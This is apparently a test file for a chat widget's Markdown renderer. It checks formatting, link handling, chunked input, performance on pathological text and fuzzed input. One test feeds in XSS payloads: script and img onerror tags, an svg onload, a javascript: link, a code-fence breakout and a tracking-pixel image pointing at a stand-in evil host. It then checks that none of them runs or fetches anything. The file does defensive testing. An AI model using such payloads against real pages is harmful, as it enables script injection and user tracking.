import assert from "node:assert/strict";
import type { Page } from "../../libraries/playwright.ts";
import { launchBrowser } from "../browser.ts";
import { openStage } from "../fixtures/stage_page.ts";
import { mainTasks } from "./main_thread.ts";

/** How many texts are made up for the last test. */
const FUZZ_RUNS = Number(Deno.env.get("FUZZ_RUNS") ?? 300);

/** What the widget makes of a text, as HTML. */
function markdown(page: Page, text: string, at: readonly number[] = []): Promise<string> {
  return page.evaluate(`GemmaPod.markdown(${JSON.stringify(text)}, ${JSON.stringify(at)})`);
}

const SAMPLE = `# Title

Some **bold**, *italic*, ~~gone~~ and \`co_de\` text with snake_case_names and 2 < 3.

1. one
2. two
   - deep

| a | b |
|---|---|
| 1 | 2 |

\`\`\`js
const a_b = "<b>";
\`\`\`

> said she

See [the guide](https://example.org/a_b) or https://example.org/c_d_e. It costs $5 and $10[1].
`;

Deno.test("Markdown becomes elements, and ends where the text ends", async () => {
  await using browser = await launchBrowser();
  await using visitor = await openStage(browser);
  const { page } = visitor;
  const cases: [string, string][] = [
    ["plain", `<p dir="auto">plain</p>`],
    ["**bo", `<p dir="auto"><strong>bo</strong></p>`],
    ["a  \n", `<p dir="auto">a </p>`],
    ["snake_case_name _em_ x_1", `<p dir="auto">snake_case_name <em>em</em> x_1</p>`],
    ["`a_b_c`", `<p dir="auto"><code>a_b_c</code></p>`],
    ["see [1] and [x", `<p dir="auto">see <span>[1]</span> and <span>[x</span></p>`],
    ["# A", `<h3 dir="auto">A</h3>`],
    [
      "- [x] a\n- [ ] b",
      `<ul dir="auto"><li class="task"><span>☑</span> a</li><li class="task"><span>☐</span> b</li></ul>`,
    ],
    [
      "Use $HOME now\n\nnext",
      `<p dir="auto">Use <span class="math">$HOME now</span></p><p dir="auto">next</p>`,
    ],
  ];
  for (const [text, html] of cases) assert.equal(await markdown(page, text), html, text);
});

Deno.test("links open what people mean by links, in a window of their own", async () => {
  await using browser = await launchBrowser();
  await using visitor = await openStage(browser);
  const { page } = visitor;
  const a = (href: string, text: string) =>
    `<a href="${href}" target="_blank" rel="noopener noreferrer">${text}</a>`;
  assert.equal(
    await markdown(page, "[x](https://example.org/a_b) (https://example.org/c)."),
    `<p dir="auto">${a("https://example.org/a_b", "x")} (${
      a("https://example.org/c", "https://example.org/c")
    }).</p>`,
  );
  for (const address of ["javascript:x=1", "data:text/html,x", "/etc", "JAVASCRIPT:x"]) {
    assert.equal(await markdown(page, `[x](${address})`), `<p dir="auto"><span>x</span></p>`);
  }
});

Deno.test("no text of a model becomes HTML, and nothing is fetched for it", async () => {
  await using browser = await launchBrowser();
  await using visitor = await openStage(browser);
  const { page } = visitor;
  const fetched: string[] = [];
  page.on("request", (request) => fetched.push(request.url()));
  await visitor.ask("Attack!");
  const attack = `<img src=x onerror="globalThis.hit=1"><script>globalThis.hit=1</script>

![tracker](https://evil.example/pixel.png?user=1) [x](javascript:globalThis.hit=1)

<svg onload="globalThis.hit=1"></svg> \`<b>\`

\`\`\`"><img src=x onerror=globalThis.hit=1>
</code><script>globalThis.hit=1</script>
\`\`\``;
  await visitor.play(`stage.say(${JSON.stringify(attack)}); stage.done();`);
  const answer = page.locator("[data-role=assistant][data-status=done] [part~=text]");
  await answer.waitFor();
  assert.equal(await answer.locator("img, script, svg, iframe, b").count(), 0);
  assert.match(await answer.innerText(), /<script>globalThis\.hit=1<\/script>/);
  assert.equal(
    await answer.locator("a").getAttribute("href"),
    "https://evil.example/pixel.png?user=1",
  );
  assert.equal(await page.evaluate("globalThis.hit"), undefined);
  assert.deepEqual(fetched, []);
});

Deno.test("how a text is cut into pieces makes no difference", async () => {
  await using browser = await launchBrowser();
  await using visitor = await openStage(browser);
  const { page } = visitor;
  const whole = await markdown(page, SAMPLE);
  for (const step of [1, 2, 3, 7]) {
    const at = Array.from({ length: Math.ceil(SAMPLE.length / step) }, (_, i) => i * step);
    assert.equal(await markdown(page, SAMPLE, at), whole, `in pieces of ${step}`);
  }
  assert.match(whole, /snake_case_names/);
  assert.match(whole, /href="https:\/\/example\.org\/c_d_e"/);
  assert.match(whole, /const a_b = "&lt;b&gt;";/);
});

Deno.test("a model that writes nonsense without end costs time in proportion, not more", async () => {
  await using browser = await launchBrowser();
  await using visitor = await openStage(browser);
  const { page } = visitor;
  const nonsense = [
    `[x](${"a".repeat(200_000)}`,
    `https://${"a".repeat(200_000)}`,
    ">".repeat(20_000),
    "- ".repeat(20_000),
    "[".repeat(20_000),
    "*".repeat(50_000),
    "`".repeat(50_000),
    "| ".repeat(50_000),
    "```" + "x".repeat(200_000),
    "_a".repeat(50_000),
  ];
  // Each in a task of its own, by the thread's clock: other work of the machine does not count.
  const [longest] = await mainTasks(page, async () => {
    for (const text of nonsense) {
      const depth = await page.evaluate<number>(`(() => {
        const box = document.createElement("template");
        box.innerHTML = GemmaPod.markdown(${JSON.stringify(text)});
        let depth = 0;
        for (let level = [box.content]; level.length > 0; depth++) {
          level = level.flatMap((one) => [...one.children]);
        }
        return depth;
      })()`);
      assert.ok(depth < 60, `${text.slice(0, 10)}: ${depth} deep`);
    }
  });

  assert.ok(longest && longest.cpuMs < 5_000, `${longest?.cpuMs} ms`);
  assert.ok(longest.cpuMs > 1, "the trace has them");
});

Deno.test(`no text makes the Markdown view throw or lose what was said (${FUZZ_RUNS} texts)`, async () => {
  await using browser = await launchBrowser();
  await using visitor = await openStage(browser);
  const lost = await visitor.page.evaluate<string[]>(`(() => {
    const parts = ["a", "word", " ", "\\n", "\\n\\n", "*", "**", "_", "~~", "\`", "\`\`\`", "[", "]", "(", ")",
      "![", "](", "https://e.org", "|", "|-|", "- ", "1. ", "# ", "> ", "$", "$$", "\\\\", "\\\\(", "<br>", "<", "&", "[ ] ", "    "];
    const lost = [];
    for (let run = 0; run < ${FUZZ_RUNS}; run++) {
      let text = "";
      const at = [];
      for (let i = 0; i < 40; i++) {
        const part = parts[Math.floor(Math.random() * parts.length)];
        text += part === "word" ? "word" + i : part;
        at.push(text.length);
      }
      try {
        const box = document.createElement("template");
        box.innerHTML = GemmaPod.markdown(text, at);
        // An address in brackets is not shown, a language of code is.
        const shown = box.content.textContent;
        for (const word of text.replace(/\\]\\([^)]*\\)?/g, " ").match(/word\\d+/g) ?? []) {
          if (!shown.includes(word)) lost.push(JSON.stringify(text) + " lost " + word);
        }
      } catch (error) {
        lost.push(JSON.stringify(text) + " threw " + error.stack);
      }
    }
    return lost;
  })()`);
  assert.deepEqual(lost.slice(0, 3), []);
});
